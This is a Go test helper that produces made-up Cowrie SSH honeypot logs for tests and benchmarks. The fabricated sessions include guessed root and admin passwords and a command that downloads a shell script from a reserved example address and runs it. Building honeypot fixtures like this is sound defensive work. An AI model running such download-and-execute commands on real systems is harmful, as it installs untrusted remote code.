// Package cowrietest makes logs like those of Cowrie, of any length, for tests and benchmarks. All of it is made up.
package cowrietest

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"time"
)

const (
	sessionsPerAddress = 6
	downloadEvery      = 8
)

// Write writes a log of so many lines, all of which tell what an attacker did. The same seed makes the same log; no two lines of
// it are equal.
func Write(w io.Writer, seed uint64, lines int) error {
	b := bufio.NewWriterSize(w, 64<<10)
	g := &generator{out: json.NewEncoder(b), rng: rand.New(rand.NewPCG(seed, 1)), left: lines}
	g.at = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
	for g.left > 0 && g.err == nil {
		g.session()
	}
	if g.err != nil {
		return g.err
	}
	return b.Flush()
}

type generator struct {
	out      *json.Encoder
	rng      *rand.Rand
	at       time.Time
	left     int
	sessions int
	err      error

	id, addr string
	port     int
}

type fields map[string]any

func (g *generator) line(event string, more fields) {
	if g.left == 0 || g.err != nil {
		return
	}
	g.left--
	g.at = g.at.Add(time.Duration(1+g.rng.IntN(900)) * time.Millisecond)
	m := fields{
		"eventid": "cowrie." + event, "timestamp": g.at.Format("2006-01-02T15:04:05.000000Z"), "sensor": "svr-1", "session": g.id,
		"src_ip": g.addr, "protocol": "ssh", "uuid": "ae2442d4-1c48-11f1-af53-e6c28017fd08", "message": event,
	}
	for k, v := range more {
		m[k] = v
	}
	g.err = g.out.Encode(m)
}

// session is ten lines, sometimes eleven: a connection, a few guesses, what was typed, the end.
func (g *generator) session() {
	n := g.sessions / sessionsPerAddress
	g.sessions++
	g.id, g.port = fmt.Sprintf("%012x", g.rng.Uint64()>>16), 1024+g.rng.IntN(60000)
	g.addr = fmt.Sprintf("198.%d.%d.%d", 18+n>>16&1, n>>8&255, n&255) // RFC 2544
	began := g.at
	g.line("session.connect", fields{"src_port": g.port, "dst_ip": "198.51.100.1", "dst_port": 2222})
	g.line("client.version", fields{"version": "SSH-2.0-Go"})
	g.line("client.kex", fields{"hassh": fmt.Sprintf("%032x", g.rng.IntN(20)), "hasshAlgorithms": "curve25519-sha256;aes128-ctr;hmac-sha2-256;none"})
	user := []string{"root", "admin", "ubuntu", "pi", "test"}[g.rng.IntN(5)]
	for range 3 {
		g.line("login.failed", fields{"username": user, "password": fmt.Sprintf("secret%d", g.rng.IntN(2000))})
	}
	g.line("login.success", fields{"username": user, "password": fmt.Sprintf("open%d", g.rng.IntN(50))})
	g.line("command.input", fields{"input": "uname -a"})
	g.line("command.input", fields{"input": fmt.Sprintf("wget http://203.0.113.7/%x.sh; sh %x.sh", g.rng.IntN(500), g.rng.IntN(500))})
	if g.sessions%downloadEvery == 0 {
		g.line("session.file_download", fields{"url": "http://203.0.113.7/x.sh", "outfile": "var/lib/x", "shasum": fmt.Sprintf("%064x", g.rng.IntN(40))})
	}
	g.line("session.closed", fields{"duration": fmt.Sprintf("%.1f", g.at.Sub(began).Seconds())})
}
